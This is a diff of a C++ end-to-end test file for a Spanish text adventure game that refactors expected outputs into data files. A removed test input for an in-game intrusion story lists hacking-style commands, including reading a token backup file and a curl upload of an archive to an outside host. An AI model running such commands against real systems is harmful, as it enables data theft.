@@ -3,6 +3,7 @@
 // the unit tests check byte for byte are matched here by a part.
 #include <sys/stat.h>
 
+#include <map>
 #include <regex>
 #include <string>
 
@@ -11,7 +12,6 @@
 namespace {
 
 using qh_test::contains_in_order;
-using qh_test::lacks;
 using qh_test::RunResult;
 
 const std::string kMenuPrompt = "\x1b[38;5;226mSelecciona una opción (1-6): \x1b[0m";
@@ -22,38 +22,28 @@ const std::string kBanner = "\x1b[38;5;51m\x1b[1m\n";  // shown again with every
 const std::string kInvalid = "\x1b[38;5;226m\x1b[1mOpción inválida.\x1b[0m\n";
 const std::string kVictory = "🎉 ¡Felicidades! Has completado la aventura victoriosamente.";
 const std::string kBroker = "test.mosquitto.org", kRepo = "oskel/Quillhaven-Vault";
-const std::string kValle = "valle_de_prueba.md";
-const std::string kValleSlug = "storiesvalle_de_pruebamd";
+const std::string kValle = "valle_de_prueba.md", kValleSlug = "storiesvalle_de_pruebamd";
 const std::string kStoryPrompt = "\x1b[38;5;226m\nElige una historia (1-1): \x1b[0m";
 
-// The layout the program writes config.json in.
+// A file of tests/data/e2e with each {NAME} in it replaced by its value.
+std::string from_data(const std::string& name,
+                      const std::map<std::string, std::string>& fields = {}) {
+  std::string text = qh_test::read_file(QH_TEST_DATA_DIR "/e2e/" + name);
+  for (const auto& [key, value] : fields)
+    for (std::size_t at = 0; (at = text.find("{" + key + "}", at)) != std::string::npos;
+         at += value.size())
+      text.replace(at, key.size() + 2, value);
+  return text;
+}
+
+// The layout the program writes config.json in, with the quiet settings' speed, music and port.
 std::string config_text(const std::string& key, bool offline, const std::string& broker = kBroker,
-                        const std::string& repo = kRepo, const std::string& speed = "0.0000",
-                        bool music = false, int port = 1883) {
-  return "{\n  \"gemini_api_key\": \"" + key +
-         "\",\n  \"model\": \"gemini-flash-lite-latest\",\n  \"offline_mode\": " +
-         (offline ? "true" : "false") + ",\n  \"language\": \"es\",\n" +
-         "  \"show_token_usage\": true,\n  \"typing_speed\": " + speed +
-         ",\n  \"music_enabled\": " + (music ? "true" : "false") +
-         ",\n  \"music_volume\": 0.70,\n  \"mqtt_broker\": \"" + broker +
-         "\",\n  \"mqtt_port\": " + std::to_string(port) + ",\n  \"community_vault_repo\": \"" +
-         repo + "\"\n}\n";
+                        const std::string& repo = kRepo) {
+  const char* mode = offline ? "true" : "false";
+  return from_data("config.json",
+                   {{"KEY", key}, {"OFFLINE", mode}, {"BROKER", broker}, {"REPO", repo}});
 }
 
-// A save of the test valley in the layout the game writes; `hero` holds the
-// blocks of stats, inventory, states and flags.
-std::string valle_save(const std::string& section, const std::string& section_title,
-                       const std::string& name, int hp, int max_hp, const std::string& hero,
-                       const std::string& at = "STAMP") {
-  return "{\n  \"version\": 2,\n  \"story_slug\": \"" + kValleSlug +
-         "\",\n  \"story_title\": \"El Valle de Prueba\",\n  \"saved_at\": \"" + at +
-         "\",\n  \"current_section_id\": \"" + section + "\",\n  \"current_section_title\": \"" +
-         section_title + "\",\n  \"character\": {\n    \"name\": \"" + name +
-         "\",\n    \"hp\": " + std::to_string(hp) + ",\n    \"max_hp\": " + std::to_string(max_hp) +
-         ",\n" + hero + "  }\n}\n";
-}
-
-// The text with every "YYYY-MM-DD HH:MM" time stamp replaced by "STAMP".
 std::string stamped(const std::string& text) {
   return std::regex_replace(text, std::regex("\\d{4}-\\d{2}-\\d{2} \\d{2}:\\d{2}"), "STAMP");
 }
@@ -62,11 +52,6 @@ int count_of(const std::string& text, const std::string& needle) {
   int n = 0;
   for (std::size_t at = 0; (at = text.find(needle, at)) != std::string::npos; ++at) ++n;
   return n;
-}
-
-bool ends_with(const std::string& text, const std::string& tail) {
-  return text.size() >= tail.size() &&
-         text.compare(text.size() - tail.size(), tail.size(), tail) == 0;
 }
 
 mode_t file_mode(const std::string& path) {
@@ -86,7 +71,6 @@ class Sandbox {
   void write(const std::string& name, const std::string& text) const {
     qh_test::write_file(dir_.file(name), text);
   }
-  // Copies a story of tests/data, or of another folder, into `to`.
   void add_story(const std::string& name, const std::string& from = QH_TEST_DATA_DIR,
                  const std::string& to = "stories/") const {
     qh_test::copy_file(from + "/" + name, dir_.file(to + name));
@@ -110,20 +94,10 @@ const std::string kOffline = "💾 Narrador Clásico (Sin IA)", kOnline = "⚡ N
 
 std::string settings(const std::string& mode, const std::string& broker = kBroker,
                      const std::string& repo = kRepo) {
-  const std::string rule =
-      "\x1b[38;5;39m======================================================\n\x1b[0m";
-  return "\n" + rule +
-         "\x1b[38;5;214m\x1b[1m             ⚙️   AJUSTES Y CONFIGURACIÓN             "
-         "\n\x1b[0m" +
-         rule + "Modo de Narrador Actual : " + mode +
-         "\nModelo LLM              : gemini-flash-lite-latest\nServidor Mosquitto (KVM): " +
-         broker + ":1883\nBóveda GitHub           : github.com/" + repo +
-         "\n------------------------------------------------------\n"
-         "1. ⚡ Alternar Modo (Narrador IA / Narrador Clásico Sin IA)\n"
-         "2. 🔑 Configurar Gemini API Key\n3. 🖥️  Configurar Servidor Mosquitto (IP / "
-         "Broker "
-         "MQTT)\n"
-         "4. 🔗 Configurar Repositorio de la Bóveda en GitHub\n5. 🚪 Volver al Menú Principal\n\n" +
+  const std::string rule = "\x1b[38;5;39m" + std::string(54, '=') + "\n\x1b[0m";
+  const std::string title = "             ⚙️   AJUSTES Y CONFIGURACIÓN             \n";
+  return "\n" + rule + "\x1b[38;5;214m\x1b[1m" + title + "\x1b[0m" + rule +
+         from_data("settings_screen.txt", {{"MODE", mode}, {"BROKER", broker}, {"REPO", repo}}) +
          kSettingsPrompt;
 }
 
@@ -133,43 +107,31 @@ TEST(StartUp, FirstRunWritesTheDefaultsPrivatelyAndTheMenuTakesOneDigit) {
   Sandbox box(false);  // no config.json and no example
   const std::string invalid = "\x1b[38;5;226m\x1b[1mOpción inválida. Elige del 1 al 6.\x1b[0m\n";
   const std::string menu =
-      "\x1b[38;5;51mModo actual: ⚡ Narrador IA\n\x1b[0m\n--- MENÚ PRINCIPAL ---\n"
-      "1. 🗡️  Iniciar Nueva Aventura\n2. 📂 Cargar Partida Guardada\n"
-      "3. 🎮 Mesa de Rol Multijugador (MQTT / KVM)\n"
-      "4. 🛠️  Taller del Creador (Historias, Guías y Música)\n"
-      "5. ⚙️  Ajustes y Configuración\n6. 🚪 Salir\n\n";
+      "\x1b[38;5;51mModo actual: ⚡ Narrador IA\n\x1b[0m\n" + from_data("main_menu.txt");
   for (const std::string& input :
        {"\n 3\n3 \n33\n7\n3.\n" + std::string(40, '1') + "6\n6\n", std::string()}) {
     RunResult r = box.run(input);
-    EXPECT_EQ(box.read("config.json"), config_text("", false, kBroker, kRepo, "0.0120", true));
+    EXPECT_EQ(box.read("config.json"), from_data("config_defaults.json"));
     EXPECT_EQ(file_mode(box.file("config.json")), 0600u);
     const int bad = input.empty() ? 0 : 7;
     EXPECT_EQ(count_of(r.out, kMenuPrompt + invalid), bad);
     EXPECT_EQ(count_of(r.out, kMenuPrompt), bad + 1);
-    EXPECT_TRUE(ends_with(r.out, menu + kMenuPrompt + kFarewell));
+    EXPECT_TRUE(r.out.ends_with(menu + kMenuPrompt + kFarewell));
   }
 }
 
 TEST(StartUp, ExampleStandsInForAMissingOrEmptyConfigButNeverForAPresentOne) {
-  const std::string example =
-      "{\n  \"offline_mode\": true, \"mqtt_port\": 8883,\n"
-      "  \"mqtt_broker\": \"broker.ejemplo.net\", \"music_enabled\": false,\n"
-      "  \"typing_speed\": 0, \"clave_desconocida\": \"se pierde\"\n}\n";
   const std::string own = "{\"offline_mode\": true, \"mqtt_port\": 1884, \"typing_speed\": 0}";
-  const std::string rewritten =
-      config_text("", true, "broker.ejemplo.net", kRepo, "0.0000", false, 8883);
   for (const std::string& config : {std::string("-"), std::string(), own}) {
     Sandbox box(false);
-    box.write("config.json.example", example);
+    box.write("config.json.example", from_data("example_config.json"));
     if (config != "-") box.write("config.json", config);
     RunResult r = box.run("3\r\n\r\n6\r\n");  // CR LF ends a line too
-    EXPECT_EQ(box.read("config.json"), config == own ? own : rewritten);
+    EXPECT_EQ(box.read("config.json"), config == own ? own : from_data("config_from_example.json"));
+    const std::string host = config == own ? "test.mosquitto.org:1884" : "broker.ejemplo.net:8883";
     EXPECT_TRUE(contains_in_order(
-        r.out,
-        {"MESA DE ROL MULTIJUGADOR (MQTT)",
-         std::string("Broker configurado : ") +
-             (config == own ? "test.mosquitto.org:1884" : "broker.ejemplo.net:8883") + "\n\n",
-         "cd ../Quillhaven-Lantern && ./run.sh\n\n\x1b[0m" + kPause + kBanner}));
+        r.out, {"MESA DE ROL MULTIJUGADOR (MQTT)", "Broker configurado : " + host + "\n\n",
+                "cd ../Quillhaven-Lantern && ./run.sh\n\n\x1b[0m" + kPause + kBanner}));
   }
 }
 
@@ -229,7 +191,7 @@ TEST(SettingsScreen, EndOfInputAtAnyPromptChangesNothing) {
     const std::string before = box.read("config.json");
     RunResult r = box.run(input);
     EXPECT_EQ(count_of(r.out, kSettingsPrompt) + count_of(r.out, kMenuPrompt), 2) << input;
-    EXPECT_TRUE(ends_with(r.out, kFarewell)) << input;
+    EXPECT_TRUE(r.out.ends_with(kFarewell)) << input;
     // With the key answered, only the pause met the end of input.
     EXPECT_EQ(box.read("config.json"), input.size() > 4 ? config_text("CLAVE", false) : before);
   }
@@ -254,18 +216,14 @@ TEST(NewAdventure, EndingsByOptionNumbersAndTheAutosaveOfExitAndClosedInput) {
 
   // The exit command and a closed input save. A name longer than its field is
   // cut to 63 bytes, and the rest of its line (digits) never becomes an action.
-  const std::string hero =
-      "    \"stats\": {\n      \"Fuerza\": 2,\n      \"Agilidad\": 0\n    },\n"
-      "    \"inventory\": [\n      \"Antorcha\",\n      \"Llave de Hierro\"\n    ],\n"
-      "    \"states\": [\n    ],\n    \"flags\": {\n    }\n";
   const std::string long_name = std::string(60, 'N') + "XYZ1234567";
   for (const std::string& name : {long_name, std::string("Ana")}) {
     const bool leave = name == long_name;
     r = box.run("1\n1\n" + name + "\n1\n" + (leave ? "/salir\n6\n" : ""));
-    EXPECT_TRUE(lacks(r.out, "Opción inválida"));
+    EXPECT_TRUE(qh_test::lacks(r.out, "Opción inválida"));
     EXPECT_EQ(count_of(r.out, kMenuPrompt), leave ? 2 : 1);  // closed input: no menu again
     EXPECT_EQ(stamped(box.read("saves/autosave_" + kValleSlug + ".json")),
-              valle_save("2", "El pozo", name.substr(0, 63), 8, 10, hero));
+              from_data("valle_autosave.json", {{"NAME", name.substr(0, 63)}}));
   }
 }
 
@@ -273,6 +231,7 @@ TEST(NewAdventure, EndingsByOptionNumbersAndTheAutosaveOfExitAndClosedInput) {
 TEST(NewAdventure, StoriesFolderFallbackFolderAndChoicesThatStartNothing) {
   Sandbox box(false);
   qh_test::write_quiet_config(box.file("juego"));
+  const std::string stories = box.file("juego/stories/");
   auto error = [](const std::string& text) {
     return "\x1b[38;5;196m\x1b[1m" + text + "\x1b[0m\n" + kPause + kBanner;
   };
@@ -286,14 +245,12 @@ TEST(NewAdventure, StoriesFolderFallbackFolderAndChoicesThatStartNothing) {
   RunResult r = box.run("1\n0\n1\n2\n1\n-1\n1\nuno\n1\n4294967297\n6\n", "/juego");
   EXPECT_EQ(count_of(r.out, kStoryPrompt + kInvalid + kBanner), 5);
   for (const char* input : {"1\n", "1\n1\n"})
-    EXPECT_TRUE(ends_with(box.run(input, "/juego").out, kFarewell));
+    EXPECT_TRUE(box.run(input, "/juego").out.ends_with(kFarewell));
   EXPECT_FALSE(qh_test::file_exists(box.file("juego/saves")));
 
   // Without a story in stories/, those of the fallback folder are listed; the
   // slug comes from their path.
-  ASSERT_EQ(::rename(box.file("juego/stories/" + kValle).c_str(),
-                     box.file("juego/stories/LEEME.txt").c_str()),
-            0);
+  ASSERT_EQ(::rename((stories + kValle).c_str(), (stories + "LEEME.txt").c_str()), 0);
   box.add_story(kValle, QH_TEST_DATA_DIR, "Quillhaven-Lantern/stories/");
   r = box.run("1\n1\nLia\n1\n/salir\n6\n", "/juego");
   EXPECT_TRUE(contains_in_order(r.out, {"  [1] valle de prueba (valle_de_prueba.md)\n", "📍 [2] "}));
@@ -301,7 +258,7 @@ TEST(NewAdventure, StoriesFolderFallbackFolderAndChoicesThatStartNothing) {
       box.file("juego/saves/autosave_quillhaven_lanternstoriesvalle_de_pruebamd.json")));
 
   // A folder whose name ends in ".md" is listed but cannot be read.
-  ASSERT_EQ(::mkdir(box.file("juego/stories/carpeta.md").c_str(), 0755), 0);
+  ASSERT_EQ(::mkdir((stories + "carpeta.md").c_str(), 0755), 0);
   EXPECT_TRUE(contains_in_order(box.run("1\n1\n\n6\n", "/juego").out,
                                 {"  [1] carpeta (carpeta.md)\n" + kStoryPrompt +
                                  error("Error al leer la historia seleccionada.")}));
@@ -316,11 +273,7 @@ TEST(BundledStories, CryptByNumbersAndIntrusionByTypedCommandsToVictory) {
   EXPECT_TRUE(contains_in_order(r.out, {"📖 Iniciando 'La Cripta del Rey Ceniza'",
                                         "Superaste la prueba de Voluntad", "📍 [14] ", kVictory}));
   // A near miss gets a hint; marker, capitals and spaces match; a hidden command.
-  r = neon.run(
-      "1\n1\nNix\n1\nnmpa -sV 10.77.0.0/24\n>_ NMAP   -sV 10.77.0.0/24\n"
-      "ssh mantenimiento@10.77.0.12 -p 2222\nps aux\nkill -STOP 4471\n1\n"
-      "cat /var/backups/token_backup.db\n1\nsudo orfeo-boveda --abrir euridice\n"
-      "curl -T euridice.tgz https://buzon.urraca.net/subida\n6\n");
+  r = neon.run(from_data("intrusion_to_victory.txt"));
   EXPECT_TRUE(contains_in_order(
       r.out, {"💡 Sintaxis correcta en esta terminal:\n   >_ nmap -sV 10.77.0.0/24", "📍 [2] ",
               "Avanzas: nmap -sV 10.77.0.0/24", "Superaste la prueba de Sigilo",
@@ -359,23 +312,18 @@ TEST(Resume, ListsTheSavesAndContinuesWithTheSavedHero) {
   const std::string tail =
       "\x1b[38;5;226m\nElige una partida a reanudar (1-2): \x1b[0m" + kFarewell;
   // Directory order decides which comes first; a closed input resumes neither.
-  EXPECT_TRUE(ends_with(out, head + quick + "  [2] " + autosave + tail) ||
-              ends_with(out, head + autosave + "  [2] " + quick + tail))
+  EXPECT_TRUE(out.ends_with(head + quick + "  [2] " + autosave + tail) ||
+              out.ends_with(head + autosave + "  [2] " + quick + tail))
       << out;
 
-  const std::string hero =
-      "    \"stats\": {\n      \"Fuerza\": 3,\n      \"Agilidad\": 1\n    },\n"
-      "    \"inventory\": [\n      \"Antorcha\",\n      \"Llave de Hierro\",\n      \"Mapa\"\n"
-      "    ],\n    \"states\": [\n      \"Herido de gravedad\",\n      \"Envenenado\"\n    ],\n"
-      "    \"flags\": {\n      \"verja_abierta\": true,\n      \"campana\": true\n    }\n";
   const std::string file = "saves/quicksave_" + kValleSlug + ".json";
   ASSERT_EQ(::remove(box.file("saves/autosave_" + kValleSlug + ".json").c_str()), 0);
-  box.write(file, valle_save("3", "El jardín", "Ana", 3, 12, hero, "antes"));
+  box.write(file, from_data("valle_resumed.json", {{"AT", "antes"}}));
   EXPECT_TRUE(contains_in_order(
       box.run("2\n1\n/guardar\n1\n6\n").out,
       {"  [1] El Valle de Prueba | Héroe: Ana (3/12 HP) | Sec: 3 | antes\n", "📍 [3] El jardín",
        "💾 Partida guardada con éxito.", "📍 [4] ", kVictory, kMenuPrompt + kFarewell}));
-  EXPECT_EQ(stamped(box.read(file)), valle_save("3", "El jardín", "Ana", 3, 12, hero));
+  EXPECT_EQ(stamped(box.read(file)), from_data("valle_resumed.json", {{"AT", "STAMP"}}));
 }
 
 TEST(Resume, FailuresChangeNothingAndTheStoryIsFoundBySlug) {
@@ -398,7 +346,7 @@ TEST(Resume, FailuresChangeNothingAndTheStoryIsFoundBySlug) {
   // Answers out of range, and a closed input, resume nothing and need no pause.
   RunResult r = box.run("2\n0\n2\n2\n2\nx\n2\n");
   EXPECT_EQ(count_of(r.out, "(1-1): \x1b[0m" + kInvalid + kBanner), 3);
-  EXPECT_TRUE(ends_with(r.out, "(1-1): \x1b[0m" + kFarewell));
+  EXPECT_TRUE(r.out.ends_with("(1-1): \x1b[0m" + kFarewell));
 
   // Of two stories, the one whose slug matches is resumed; without a section
   // it starts at the beginning.
@@ -409,7 +357,7 @@ TEST(Resume, FailuresChangeNothingAndTheStoryIsFoundBySlug) {
   EXPECT_TRUE(contains_in_order(
       r.out, {"  [1]  | Héroe: Ana (4/8 HP) | Sec:  | \n", "📖 Iniciando 'La Torre de Prueba'",
               "📍 [1] ", "📍 [2] ", "📍 [3] ", kVictory, kMenuPrompt + kFarewell}));
-  EXPECT_TRUE(lacks(r.out, "Valle"));
+  EXPECT_TRUE(qh_test::lacks(r.out, "Valle"));
 }
 
 }  // namespace
